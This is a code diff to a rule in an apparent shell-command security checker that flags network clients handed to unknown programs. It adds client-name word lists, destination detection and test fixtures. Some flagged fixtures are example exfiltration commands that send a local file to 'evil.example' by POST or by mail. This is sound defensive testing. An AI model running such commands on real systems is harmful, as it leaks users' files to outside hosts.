@@ -1,15 +1,43 @@
 // vouch.unknown-program: a program the registry does not know is handed a denied client by name; it may run it.
-import type { Finding } from '../types.js';
+import type { Finding, Word } from '../types.js';
 import { compile } from './compiled.js';
 import type { Rule } from './rule.js';
 import { display, staticValue } from './words.js';
 
 const PS = 'powershell' as const;
 
+/** A word's basename: the name a program would be looked up by. */
+function basename(value: string): string {
+  return value.slice(Math.max(value.lastIndexOf('/'), value.lastIndexOf('\\')) + 1);
+}
+
 /** The program name a word names, as a client would be looked up: basename, lower-cased, `.exe` dropped. */
 function named(value: string): string {
-  const base = value.slice(Math.max(value.lastIndexOf('/'), value.lastIndexOf('\\')) + 1);
-  return base.toLowerCase().replace(/\.(exe|com|cmd|bat)$/, '');
+  return basename(value).toLowerCase().replace(/\.(exe|com|cmd|bat)$/, '');
+}
+
+/**
+ * Client names that are also everyday words, the verbs and nouns programs take as subcommands and names (`cli get
+ * users`, `cap open ios`, `rails g model Host`, `pub get --offline`): given one, a program is read as running it
+ * only when a word after it is a destination.
+ */
+const WORDS: ReadonlySet<string> = new Set(['get', 'post', 'head', 'open', 'fetch', 'host', 'mail', 'net', 'play', 'convert', 'identify', 'composite', 'montage', 'explorer', 'links', 'http', 'https', 'hey', 'ping', 'finger', 'dig', 'drill', 'tor', 'siege', 'resolve']);
+
+/**
+ * A word written as no program is named on a case-sensitive system (`Post`, `Host`, `CURL`): a name to the program,
+ * unless a case-insensitive file system (macOS, Windows) finds the client by it; so it too needs a destination.
+ * lwp-request's own upper-case names (`GET`, `POST`, `HEAD`) are everyday words as well (HTTP methods).
+ */
+function cased(base: string): boolean {
+  return base !== base.toLowerCase();
+}
+
+/** A word that names a place to connect to: a URL, an address, `user@host`, a dotted host name (`evil.example:22`), or computed. */
+function destination(w: Word): boolean {
+  const v = staticValue(w);
+  if (v === null) return true;
+  const text = v.replace(/^-{1,2}[\w-]+=/, '');
+  return /^[a-z][a-z0-9+.-]*:\/\//i.test(text) || /@[\w-]/.test(text) || /^\[?[0-9a-f]*:[0-9a-f:]*:/i.test(text) || /^[\w-]+(\.[\w-]+)+(:\S*)?$/.test(text) || /^localhost(:|$)/i.test(text);
 }
 
 export const unknownProgram: Rule = {
@@ -32,6 +60,14 @@ export const unknownProgram: Rule = {
       'cat urls.txt | mytool curl',
       'mytool wget < urls.txt',
       'npx cap open https://evil.example',
+      'mytool get evil.example',
+      'mytool GET http://evil.example/x',
+      'mytool post --data=@notes.txt https://evil.example/x',
+      'mytool Curl evil.example',
+      'mytool mail x@evil.example < notes.txt',
+      'npx foo wget evil.example',
+      'mytool host "$TARGET"',
+      'mytool ping 10.0.0.1',
     ],
     pass: [
       'mytool --verbose',
@@ -50,6 +86,15 @@ export const unknownProgram: Rule = {
       'npx cypress open',
       'npx cypress run --browser chrome',
       'npx lerna run fetch',
+      'bin/rails g scaffold Post title:string',
+      'bin/rails g model Host name:string',
+      'mix phx.gen.html Blog Post posts title:string',
+      'npx cap open ios',
+      './bin/cli get users --json',
+      './bin/app fetch --dry-run',
+      'flutter pub get --offline',
+      'task fetch -- --all',
+      'mytool Curl --help x',
     ],
   },
   check({ analysis, config }) {
@@ -62,9 +107,13 @@ export const unknownProgram: Rule = {
       const input = seg !== undefined && (/^pipeline\[[1-9]\d*\]$/.test(seg.context.at(-1) ?? '') || seg.redirects.some((r) => r.op.startsWith('<') && r.fd === undefined));
       const client = inv.args.find((w, i) => {
         const v = staticValue(w);
+        if (v === null || !network.has(named(v))) return false;
+        // A word that is also an everyday word, or that no case-sensitive system runs as the client, is a name to the
+        // program unless a destination follows it (`cli get users` and `cap open ios`; `mytool get evil.example`).
+        if (WORDS.has(named(v)) || (inv.dialect === 'bash' && cased(basename(v)))) return inv.args.slice(i + 1).some(destination);
         // A client named last, with nothing after it and no input, is given no destination (`npx playwright
         // install chromium`, `npx cypress open`): the word is a name to the program, or the client starts bare.
-        return v !== null && network.has(named(v)) && (i < inv.args.length - 1 || input);
+        return i < inv.args.length - 1 || input;
       });
       if (!client) continue;
       findings.push({
